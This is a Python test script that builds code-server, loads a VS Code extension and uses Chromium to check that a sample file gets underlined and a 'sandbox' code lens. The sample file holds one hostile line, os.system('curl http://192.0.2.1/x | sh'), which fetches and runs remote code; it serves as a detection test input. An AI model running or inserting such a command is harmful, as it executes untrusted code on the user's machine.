"""The extension in a real VS Code: its server build (code-server, from npm), looked at by Chromium.

``scripts/vscode_look.py FOLDER [PICTURE]``. FOLDER is where code-server is, or is put: it is made there,
which needs npm, Node 20, a C++ compiler, Node's headers (Debian: libnode-dev), and takes minutes. Exit
code 1 where the open file gets no finding or lens. What an editor does beside the protocol shows only here.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Final
from urllib.parse import quote

ROOT: Final = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from tests.browser import _NAMES, Browser  # noqa: E402
from tests.npm_packages import npm_packages  # noqa: E402

VERSION: Final = "4.100.3"
"""The last one for Node 20."""
NATIVE: Final = ("@vscode/spdlog", "native-watchdog", "@parcel/watcher")
PORT: Final = 18080
PATIENCE: Final = 120.0
CODE: Final = "import os\n\n\ndef f():\n    os.system('curl http://192.0.2.1/x | sh')\n"
SEEN: Final = """[document.querySelectorAll('[class*=squiggly-]').length,
    [...document.querySelectorAll('.codelens-decoration')].map(one => one.innerText).join(' ')]"""


def install(folder: Path) -> None:
    """code-server with what it needs, compiled here; nothing where it is there."""
    if (folder / "ready").exists():
        return
    npm = ["npm", "--silent", "--no-audit", "--no-fund", "--nodedir=/usr"]
    inner = folder / "node_modules/code-server/lib/vscode"
    scripts = "--ignore-scripts"
    subprocess.run([*npm, "install", scripts, "--prefix", folder, f"code-server@{VERSION}"], check=True)
    subprocess.run([*npm, "install", scripts, "--omit=dev"], cwd=inner, check=True)
    for name in NATIVE:
        subprocess.run([*npm, "rebuild", name], cwd=inner, check=True)
    subprocess.run([*npm, "rebuild", "argon2"], cwd=folder, check=True)
    (folder / "ready").touch()


def extension(folder: Path) -> Path:
    """The folder of extensions, with ours compiled in it."""
    source = ROOT / "editors" / "vscode"
    said = json.loads((source / "package.json").read_text())
    wanted = said["dependencies"] | said["devDependencies"]
    modules = npm_packages(*(f"{name}@{version}" for name, version in wanted.items()))
    place = folder / "extensions" / f"{said['publisher']}.{said['name']}-{said['version']}"
    shutil.copytree(source, place, ignore=shutil.ignore_patterns("node_modules", "out"))
    shutil.copytree(modules, place / "node_modules", symlinks=True)
    subprocess.run(["node", "node_modules/typescript/bin/tsc", "-p", "."], cwd=place, check=True)
    return place.parent


@contextlib.contextmanager
def served(server: Path, folder: Path, project: Path) -> Iterator[None]:
    """code-server on loopback, with our extension and a home of its own."""
    settings = folder / "data" / "User" / "settings.json"
    settings.parent.mkdir(parents=True)
    gate = str(Path(sys.executable).with_name("gate"))
    chosen = {"gate.command": gate, "security.workspace.trust.enabled": False}
    settings.write_text(json.dumps(chosen | {"workbench.startupEditor": "none"}))
    words = ["node", str(server / "node_modules/code-server/out/node/entry.js"), "--auth", "none"]
    words += ["--bind-addr", f"127.0.0.1:{PORT}", "--disable-telemetry", "--disable-update-check"]
    words += ["--extensions-dir", str(extension(folder)), "--user-data-dir", str(folder / "data")]
    running = subprocess.Popen(
        [*words, str(project)],
        env={**os.environ, "HOME": str(folder)},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        time.sleep(8)
        yield
    finally:
        os.killpg(running.pid, signal.SIGTERM)
        running.wait(20)


def looked(project: Path, picture: Path | None) -> tuple[int, str]:
    """How many lines are underlined, and what the lens says, once both are there or patience is over."""
    program = next(found for found in map(shutil.which, _NAMES) if found)
    browser = Browser(program, Path(tempfile.mkdtemp()))
    page = browser.page()
    page.look(width=1400, height=800)
    opened = json.dumps([["openFile", f"vscode-remote://127.0.0.1:{PORT}{project}/b.py"]])
    page.open(f"http://127.0.0.1:{PORT}/?folder={project}&payload={quote(opened)}")
    until, marks, lens = time.monotonic() + PATIENCE, 0, ""
    while time.monotonic() < until and not (marks and lens):
        time.sleep(3)
        marks, lens = page.evaluate(SEEN)
    if picture is not None:
        picture.write_bytes(page.picture())
    browser.call("Browser.close")
    return marks, lens


def main() -> int:
    """Install, look, say."""
    server = Path(sys.argv[1]).absolute()
    picture = Path(sys.argv[2]) if len(sys.argv) > 2 else None
    install(server)
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as name:
        project = Path(name) / "project"
        project.mkdir()
        words = ["-c", "user.name=Ada", "-c", "user.email=ada@shop.example", "commit", "-qm", "A"]
        for git in (["init", "-q"], [*words, "--allow-empty"]):
            subprocess.run(["git", *git], cwd=project, check=True)
        (project / "b.py").write_text(CODE)
        with served(server, Path(name), project):
            marks, lens = looked(project, picture)
    print(json.dumps({"code_server": VERSION, "underlined": marks, "lens": lens}))
    return int(not marks or "sandbox" not in lens)


if __name__ == "__main__":
    raise SystemExit(main())
